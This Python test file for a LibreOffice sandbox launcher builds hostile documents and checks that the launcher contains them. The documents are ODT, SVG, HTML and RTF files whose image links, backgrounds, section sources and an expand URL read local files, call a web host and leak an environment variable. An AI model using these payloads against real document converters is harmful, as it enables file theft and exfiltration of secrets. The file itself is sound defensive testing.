"""Documents that make an unconfined LibreOffice read files, call hosts and start programs.

The launcher alone must hold them: visible loading, LibreOffice's default settings, no
sanitiser. The same documents are also opened without it, or nothing would be proven.
"""

from __future__ import annotations

import http.server
import re
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from greffier_converters import probe, sandbox
from greffier_converters.office import OfficeProgram, OfficeSettings
from odt import PNG, odt, p

# Where Debian keeps what LibreOffice's folder links to.
OFFICE_READS = ("/etc/libreoffice", "/var/lib/libreoffice", "/var/spool/libreoffice")
SECRET = "canary-of-the-environment"

pytestmark = pytest.mark.skipif(
    bool(sandbox.probe().missing), reason=f"this kernel lacks {sandbox.probe().missing}"
)


@dataclass
class Opened:
    """What LibreOffice did while it converted the documents."""

    pdfs: set[str]
    #: Real paths of all files and folders it got open, from its start on.
    files: set[str]
    #: Programs it got started.
    programs: set[str]
    #: Addresses it reached for, in strace's words, with the outcome.
    calls: list[str]
    #: Request lines that the listener heard.
    heard: list[str]


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A web server that remembers who asked for what."""
    heard: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.requestline)
            self.send_error(404)

        do_HEAD = do_OPTIONS = do_PROPFIND = do_GET

        def log_message(self, *_: object) -> None:
            """Keep quiet."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", heard
        server.shutdown()
        thread.join()


def hostile(secret: Path, url: str) -> dict[str, bytes]:
    """One document for each way in that was found to work (LibreOffice 7.4, default settings)."""
    file = secret.as_uri()
    env = f"vnd.sun.star.expand:{url}/expand/$GREFFIER_CANARY"
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="9" height="9"><image width="9" height="9" xlink:href="{file}"/>'
        f'<image width="9" height="9" xlink:href="{url}/svg.png"/></svg>'
    )
    eps = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\nshowpage\n"
    html = f'<html><body background="{url}/html.png"><img src="{file}"><p>text</body></html>'
    rtf = r'{\rtf1 {\field{\*\fldinst INCLUDEPICTURE "' + str(secret) + r'" \\d}{\fldrslt x}}}'
    return {
        "image-file": odt(picture(file)),
        "image-http": odt(picture(f"{url}/image.png")),
        "background-file": odt(styled(), automatic=background(file)),
        "background-http": odt(styled(), automatic=background(f"{url}/background.png")),
        "background-environment": odt(styled(), automatic=background(env)),
        "bullet-file": odt(bullets(), automatic=bullet_style(file)),
        "fill-file": odt(styled(), automatic=FILLED, styles=fill_image(file)),
        "svg": odt(picture("Pictures/a.svg"), parts={"Pictures/a.svg": svg.encode()}),
        "eps": odt(picture("Pictures/a.eps"), parts={"Pictures/a.eps": eps}),
        "section": odt(section(secret.with_suffix(".txt").as_uri())),
        "html": html.encode(),
        "rtf": rtf.encode(),
    }


def picture(href: str) -> str:
    return p(
        '<draw:frame draw:name="f" text:anchor-type="as-char" svg:width="5cm" svg:height="5cm">'
        f'<draw:image xlink:href="{href}" xlink:type="simple"/></draw:frame>'
    )


def styled() -> str:
    return '<text:p text:style-name="H1">text</text:p>'


def background(href: str) -> str:
    return (
        '<style:style style:name="H1" style:family="paragraph"><style:paragraph-properties>'
        f'<style:background-image xlink:href="{href}" xlink:type="simple"/>'
        "</style:paragraph-properties></style:style>"
    )


def bullets() -> str:
    item = "<text:list-item><text:p>text</text:p></text:list-item>"
    return f'<text:list text:style-name="L9">{item}</text:list>'


def bullet_style(href: str) -> str:
    return (
        '<text:list-style style:name="L9"><text:list-level-style-image text:level="1" '
        f'xlink:href="{href}" xlink:type="simple"><style:list-level-properties '
        'fo:width="1cm" fo:height="1cm"/></text:list-level-style-image></text:list-style>'
    )


FILLED = (
    '<style:style style:name="H1" style:family="paragraph">'
    '<style:graphic-properties draw:fill="bitmap" draw:fill-image-name="F1"/></style:style>'
)


def fill_image(href: str) -> str:
    return f'<draw:fill-image draw:name="F1" xlink:href="{href}" xlink:type="simple"/>'


def section(href: str) -> str:
    return (
        '<text:section text:name="s"><text:section-source '
        f'xlink:href="{href}" text:filter-name="Text"/><text:p/></text:section>'
    )


def convert(folder: Path, documents: dict[str, bytes], *, confined: bool) -> Opened:
    """Convert all documents in one run of LibreOffice with its default settings, traced."""
    installation = probe.find_office()
    soffice = installation.soffice
    for name, content in documents.items():
        (folder / f"{name}.odt").write_bytes(content)
    for name in ("home", "tmp"):
        (folder / name).mkdir()
    environment = {"HOME": str(folder / "home"), "TMPDIR": str(folder / "tmp"), "LANG": "C.UTF-8"}
    office = [soffice, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless"]
    # A fresh profile makes the first start end early.
    subprocess.run([*office, "--terminate_after_init"], env=environment, check=True, timeout=100)
    argv = [*office, "--convert-to", "pdf", "--outdir", folder, *sorted(folder.glob("*.odt"))]
    command = tuple(map(str, argv))
    if confined:
        program = OfficeProgram(OfficeSettings(installation=installation), folder)
        as_started = program.office_command(folder)  # the very policy of the offices
        command = (*as_started[: as_started.index("--") + 1], *command)
    trace = folder / "trace"
    subprocess.run(
        ["strace", "-f", "-y", "-o", trace, "-e", "trace=/^open,connect,sendto,sendmsg,/^exec",
         *command],
        env={**environment, "PATH": "/usr/bin:/bin", "GREFFIER_CANARY": SECRET},
        stdout=subprocess.DEVNULL,
        check=False,
        timeout=400,
    )  # fmt: skip
    lines = trace.read_text(errors="replace").splitlines()
    start = next(i for i, line in enumerate(lines) if f'execve("{soffice}"' in line)
    after = lines[start + 1 :]
    found = "\n".join(after)
    return Opened(
        pdfs={pdf.stem for pdf in folder.glob("*.pdf")},
        files=set(re.findall(r"open.*= \d+<(/[^>]*)>", found)),
        programs=set(re.findall(r'execve\("([^"]*)".*\) = 0$', found, re.MULTILINE)),
        calls=[line for line in after if re.search(r"(connect|sendto|sendmsg)\(", line)],
        heard=[],
    )


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "elsewhere" / "secret.png"
    path.parent.mkdir()
    path.write_bytes(PNG)
    path.with_suffix(".txt").write_text("secret text")
    return path


@pytest.fixture
def opened(
    request: pytest.FixtureRequest,
    tmp_path: Path,
    secret: Path,
    listener: tuple[str, list[str]],
) -> Opened:
    url, heard = listener
    folder = tmp_path / "office"
    folder.mkdir()
    result = convert(folder, hostile(secret, url), confined=request.param)
    result.heard = heard
    return result


@pytest.mark.timeout(600)
@pytest.mark.parametrize("opened", [True], indirect=True, ids=["confined"])
def test_the_launcher_alone_holds_hostile_documents(opened: Opened, tmp_path: Path) -> None:
    allowed = [str(path.resolve()) for path in sandbox.system_read()]
    allowed += [*OFFICE_READS, "/dev/null", str(tmp_path / "office")]
    foreign = {f for f in opened.files if not f.startswith(tuple(allowed))}
    assert foreign == set()
    assert opened.programs == set()
    assert opened.heard == []
    assert [call for call in opened.calls if "AF_UNIX" not in call or call.endswith("= 0")] == []
    # They were opened, and what they say themselves was converted.
    assert len(opened.pdfs) >= len(hostile(Path("/x.png"), "")) - 1


@pytest.mark.timeout(600)
@pytest.mark.parametrize("opened", [False], indirect=True, ids=["unconfined"])
def test_the_documents_are_hostile(opened: Opened, secret: Path) -> None:
    assert str(secret) in opened.files
    assert opened.programs != set()
    if probe.office_version(probe.find_program_folder()).startswith("7."):
        # 25.2 no longer asks: docs/operators/libreoffice-versions.md
        assert any(SECRET in line for line in opened.heard)
